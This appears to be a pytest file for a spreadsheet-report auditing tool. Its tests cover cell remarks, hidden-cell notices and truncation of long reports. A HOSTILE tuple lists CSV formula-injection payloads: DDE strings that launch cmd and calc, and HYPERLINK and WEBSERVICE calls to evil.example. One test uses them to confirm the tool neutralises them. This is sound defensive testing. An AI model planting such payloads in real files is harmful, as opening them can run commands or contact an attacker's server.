"""A remark in every row that needs mending; hidden cells said; hostile cells stay words; long reports are cut."""

import json
import zipfile
from dataclasses import replace

import docx
import made_forms
import made_parts
import made_report
import openpyxl
from openpyxl import Workbook

from auditor import reports, returned
from auditor.model import Lang, LinkResult, LinkStatus, Outcome
from auditor.reports import clean, html, md
from auditor.reports import docx as paper
from auditor.reports import json as json_
from auditor.reports.booklet import bind
from auditor.reports.view import forms
from auditor.reports.voice import Voice

HOSTILE = (
    '=HYPERLINK("http://evil.example/";"нажмите")',
    "=cmd|' /C calc'!A0",
    '+SUM(1+1)*cmd|"/C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;9)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    "={1;2}",
    "\t=1+1",
)


def _of_rows(path, hidden=False):
    """A form whose first position stands in three rows, and a report with a finding on the link of each."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Форма"
    for row in (["Муниципалитет: Речной район"], ["Код", "Ссылка"]):
        sheet.append(row)
    for number in (1, 2, 3):
        sheet.append(["2.4.1.1", f"https://uo.ru/{number}.pdf"])
    sheet.row_dimensions[3].hidden = hidden
    book.save(path)
    report = made_forms.report_on(path)
    (form,) = report.submissions
    first = form.cells[0]
    links = tuple(
        LinkResult(link=one, status=LinkStatus.OK, visit=None, document=None, suggested_pages=(), suggested_url=None)
        for one in first.cell.links
    )
    finding = next(one for one in report.findings if one.position == "2.4.1.1")
    found = tuple(replace(finding, id=f"f{n}", url=one.link.url) for n, one in enumerate(links) if n != 1)
    cells = (replace(first, links=links), *form.cells[1:])
    return replace(report, submissions=(replace(form, cells=cells),), findings=found)


def test_every_row_of_a_position_has_the_remark_on_its_own_link(tmp_path):
    report = _of_rows(tmp_path / "form.xlsx")
    back = made_forms.given_back(tmp_path / "form.xlsx", tmp_path / "out", report)
    sheet = openpyxl.load_workbook(back)["Форма"]
    told = {cell: sheet[cell].comment.text if sheet[cell].comment else "" for cell in ("B3", "B4", "B5")}
    assert "Гриф утверждения" in told["B3"] and told["B4"] == "" and "Гриф утверждения" in told["B5"]
    assert told["B3"].count("Гриф утверждения") == 1


def test_a_hidden_cell_is_said_to_be_hidden(tmp_path):
    report = clean.report(_of_rows(tmp_path / "form.xlsx", hidden=True))
    (form,) = forms(report, Voice(Lang.RU), made_parts.LABELS)
    assert form.positions[0].place.endswith("B3 – в скрытой строке, столбце или листе")
    assert "скрыт" not in form.positions[1].place


def test_hostile_cells_of_a_text_file_stay_words_in_its_copy(tmp_path):
    source = tmp_path / "form.csv"
    rows = ["Код;Ссылка;Комментарий"]
    rows += [
        ";".join((f"2.4.1.{n % 4 + 1}", f"https://uo.ru/{n}.pdf", '"' + one.replace('"', '""') + '"'))
        for n, one in enumerate(HOSTILE)
    ]
    source.write_text("\r\n".join(rows), encoding="utf-8")
    report = made_forms.report_on(source)
    (back,) = returned.write(report, [source] * len(report.submissions), tmp_path / "out", Lang.RU, made_parts.LABELS)
    with zipfile.ZipFile(back) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    every = b"".join(parts.values())
    assert b"<f>" not in every and b"<f " not in every
    assert not [name for name in parts if "externalLink" in name]
    leads = [line for name, line in parts.items() if name.endswith(".rels") and b"External" in line]
    assert all(b"evil" not in line and b"cmd" not in line for line in leads)
    told = {str(cell.value) for row in openpyxl.load_workbook(back)["Таблица"].iter_rows() for cell in row}
    assert {one for one in HOSTILE if not one.startswith(("\t", "=HYPERLINK"))} <= told


def test_a_report_too_long_for_people_is_cut_and_says_where_the_rest_is(tmp_path):
    report = made_report.one()
    first = report.findings[0]
    many = tuple(replace(first, id=f"f{n}", message=first.message) for n in range(10_001))
    report = replace(report, findings=many)
    (form,) = forms(clean.report(report), Voice(Lang.RU), made_parts.LABELS)
    cut = next(one for one in form.positions if one.id == first.position)
    assert 5 <= len(cut.findings) < 10_000
    assert cut.why.endswith(f"Показаны первые {len(cut.findings)} замечаний из 10001; все – в report.json.")
    (whole,) = (path for path in reports.write(report, tmp_path, Lang.RU, made_parts.LABELS) if path.suffix == ".json")
    written = whole.read_text(encoding="utf-8")
    told = json.loads(written)
    assert len(told["findings"]) == 10_001
    assert written == json.dumps(told, ensure_ascii=False, indent=1) + "\n"
    assert told["submissions"][0]["verdict"] == Outcome.MEND.value


def test_things_to_do_too_many_for_people_are_cut_and_every_format_says_where_the_rest_is(tmp_path):
    report = made_report.one()
    (result,) = report.submissions
    many = tuple(replace(result.first[0], urgent=False) for _ in range(10_001))
    report = replace(report, submissions=(replace(result, first=many),))
    booklet = bind(clean.report(report), Voice(Lang.RU), made_parts.LABELS)
    (form,) = booklet.forms
    said = "Показаны первые 5000 из 10001; все – в report.json."
    assert len(form.first) == 5_000 and form.first_cut == said
    booklet = replace(booklet, forms=(replace(form, first=form.first[:9]),))  # a paper of 5,000 rows takes its time
    assert said in md.render(booklet)
    assert said in html.front(booklet).replace("\xa0", " ")
    paper.save(booklet, tmp_path / "report.docx")
    lines = docx.Document(str(tmp_path / "report.docx")).paragraphs
    assert said in [line.text.replace("\xa0", " ") for line in lines]
    json_.save(booklet.report, Lang.RU, tmp_path / "report.json")
    assert len(json.loads((tmp_path / "report.json").read_text("utf-8"))["submissions"][0]["first"]) == 10_001
